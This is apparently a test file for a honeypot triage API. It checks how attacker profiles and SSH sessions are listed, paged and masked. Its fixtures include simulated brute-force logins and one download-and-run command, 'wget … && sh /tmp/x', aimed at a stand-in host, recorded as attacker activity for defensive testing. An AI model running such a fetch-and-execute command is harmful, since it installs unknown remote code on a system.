import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { openScene, type PageView } from '../support/triage.ts';

interface Profile {
  source_ip: string;
  total_attacks: number;
  max_risk_score: number;
  last_seen: string;
}
interface SessionView {
  node_id: string;
  session: string;
  source_ip: string;
  commands: number;
  failed_logins: number;
  succeeded_logins: number;
  risk_score: number;
}

/** Three sources: a loud one, a dangerous one, and one that only passed by, in this order of time. */
async function openVisited(t: Parameters<typeof openScene>[0]) {
  const scene = await openScene(t);
  const at = (minute: number): string => new Date(Date.now() - (60 - minute) * 60_000).toISOString();
  const ssh = (source_ip: string, minute: number, activity: string, payload: string, session: string) => ({
    service: 'ssh',
    source_ip,
    activity,
    payload,
    timestamp: at(minute),
    extra: { session, username: 'root', password: payload },
  });
  const events = [
    ...Array.from({ length: 8 }, (_, n) => ssh('203.0.113.1', n, 'login failed', `root:${n}`, 'loud')),
    ssh('203.0.113.2', 20, 'login succeeded', 'root:dragon', 'grave/1'),
    ssh('203.0.113.2', 21, 'command', 'wget http://198.51.100.9/x -O /tmp/x && sh /tmp/x', 'grave/1'),
    { service: 'http', source_ip: '203.0.113.3', activity: 'connection', payload: '', timestamp: at(40) },
  ];
  const { api, node } = scene;
  const { body } = await api.call('POST', '/api/events', { headers: node.headers, body: events });
  assert.equal(body.accepted, events.length, JSON.stringify(body));
  return scene;
}
const sources = (page: PageView<{ source_ip: string }>): string[] =>
  page.items.map(({ source_ip }) => source_ip.slice(-1));

describe('GET /api/attackers', () => {
  it('lists profiles by last seen, number of events or greatest risk, page by page', async (t) => {
    const { as } = await openVisited(t);
    const inOrder = async (order: string) =>
      (await as<PageView<Profile>>('GET', `/api/attackers${order}`)).body;
    assert.deepEqual(sources(await inOrder('')), ['3', '2', '1']);
    assert.deepEqual(sources(await inOrder('?order=last_seen')), ['3', '2', '1']);
    assert.deepEqual(sources(await inOrder('?order=total_attacks')), ['1', '2', '3']);
    assert.equal(sources(await inOrder('?order=max_risk_score'))[0], '2');
    const first = await inOrder('?order=total_attacks&limit=2');
    assert.deepEqual(sources(first), ['1', '2']);
    const cursor = encodeURIComponent(first.next_cursor ?? '');
    const rest = await inOrder(`?order=total_attacks&limit=2&cursor=${cursor}`);
    assert.deepEqual([sources(rest), rest.next_cursor], [['3'], null]);
    for (const profile of (await inOrder('')).items)
      assert.deepEqual(
        (await as<Profile>('GET', `/api/attacker-profile/${profile.source_ip}`)).body,
        profile,
      );
  });

  it('refuses what it does not know', async (t) => {
    const { as } = await openVisited(t);
    assert.equal((await as('GET', '/api/attackers?order=name')).status, 422);
    assert.equal((await as('GET', '/api/attackers?cursor=nonsense')).status, 400);
    assert.equal((await as('GET', '/api/attackers?limit=0')).status, 422);
  });
});

describe('sessions', () => {
  it('are listed, filtered and paged, latest first', async (t) => {
    const { as, node } = await openVisited(t);
    const list = async (query = '') => (await as<PageView<SessionView>>('GET', `/api/sessions${query}`)).body;
    assert.deepEqual(
      (await list()).items.map(({ session }) => session),
      ['grave/1', 'loud'],
    );
    const first = await list('?limit=1');
    const rest = await list(`?limit=1&cursor=${encodeURIComponent(first.next_cursor ?? '')}`);
    assert.deepEqual(
      rest.items.map(({ session }) => session),
      ['loud'],
    );
    assert.equal((await list('?source=203.0.113.1')).items.length, 1);
    assert.equal((await list(`?node_id=${node.id}`)).items.length, 2);
    assert.equal((await list('?node_id=another')).items.length, 0);
    assert.equal((await as('GET', '/api/sessions?cursor=nonsense')).status, 400);
  });

  it('say what they tried to sign in with and which files they brought, masked and bounded', async (t) => {
    const { as, api, node } = await openVisited(t);
    const personal = 'Gartenzwerg#77';
    const sha256 = 'ab'.repeat(32);
    const at = (n: number): string => new Date(Date.now() - 3600_000 + n * 1000).toISOString();
    const of = (session: string, n: number, activity: string, payload: string, extra: object) => ({
      ...{ service: 'ssh', source_ip: '203.0.113.5', timestamp: at(n), activity, payload },
      extra: { session, ...extra },
    });
    const guess = (n: number, username: string, password: string, session = 'thief') =>
      of(session, n, 'login failed', `${username}:${password}`, { username, password });
    const url = 'http://198.51.100.9/x.sh';
    const events = [
      guess(0, 'root', '1234'),
      guess(1, 'root', '1234'),
      guess(2, 'j.doe', personal),
      of('thief', 3, 'login succeeded', 'root:admin', { username: 'root', password: 'admin' }),
      of('thief', 4, 'file download', url, { url, shasum: sha256, filename: 'x.sh' }),
      of('thief', 5, 'file download', url, { url, shasum: sha256, filename: 'x.sh' }),
      ...Array.from({ length: 120 }, (_, n) => guess(10 + n, 'root', `pass${n}`, 'hail')),
    ];
    for (let n = 0; n < events.length; n += 100) {
      const { body } = await api.call('POST', '/api/events', {
        headers: node.headers,
        body: events.slice(n, n + 100),
      });
      assert.equal(body.rejected, 0, JSON.stringify(body));
    }
    interface Finds {
      credentials: { user: string; password: string; masked: boolean; tries: number; succeeded: boolean }[];
      credential_count: number;
      files: { name: string; sha256: string; url: string; events: number; size_bytes: number | null }[];
      file_count: number;
      looked_at: number;
    }
    const { body } = await as<Finds>('GET', `/api/sessions/${node.id}/thief`);
    assert.deepEqual(
      body.credentials.map((one) => [one.user, one.password, one.masked, one.tries, one.succeeded]),
      [
        ['root', '1234', false, 2, false],
        ['j.doe', '••••••••', true, 1, false],
        ['root', 'admin', false, 1, true],
      ],
    );
    assert.deepEqual(body.files, [{ name: 'x.sh', sha256, url, events: 2, size_bytes: null }]);
    assert.deepEqual([body.credential_count, body.file_count, body.looked_at], [3, 1, 6]);
    assert.ok(!JSON.stringify(body).includes(personal));
    const { body: hail } = await as<Finds>('GET', `/api/sessions/${node.id}/hail`);
    assert.deepEqual(
      [hail.credentials.length, hail.credential_count, hail.files.length, hail.looked_at],
      [100, 120, 0, 120],
    );
  });

  it('tell their story, whatever the sensor called them', async (t) => {
    const { as, api, node } = await openVisited(t);
    const url = (session: string): string => `/api/sessions/${node.id}/${encodeURIComponent(session)}`;
    const { status, body } = await as<SessionView & { story: { kind: string; text: string }[] }>(
      'GET',
      url('grave/1'),
    );
    assert.equal(status, 200);
    assert.deepEqual([body.commands, body.succeeded_logins, body.failed_logins], [1, 1, 0]);
    assert.deepEqual([...new Set(body.story.map(({ kind }) => kind))], ['login.succeeded', 'command.run']);
    assert.ok(body.story.some(({ text }) => text.includes('wget')));
    assert.ok(body.risk_score >= 7);
    assert.equal((await as('GET', url('none'))).status, 404);
    // The longest name there is, of characters that an address carries in nine bytes each.
    const name = '蜜'.repeat(128);
    const event = {
      service: 'ssh',
      source_ip: '203.0.113.4',
      activity: 'command',
      payload: 'id',
      timestamp: new Date().toISOString(),
      extra: { session: name },
    };
    await api.call('POST', '/api/honeypot-log', { headers: node.headers, body: event });
    assert.equal((await as<SessionView>('GET', url(name))).body.session, name);
  });
});
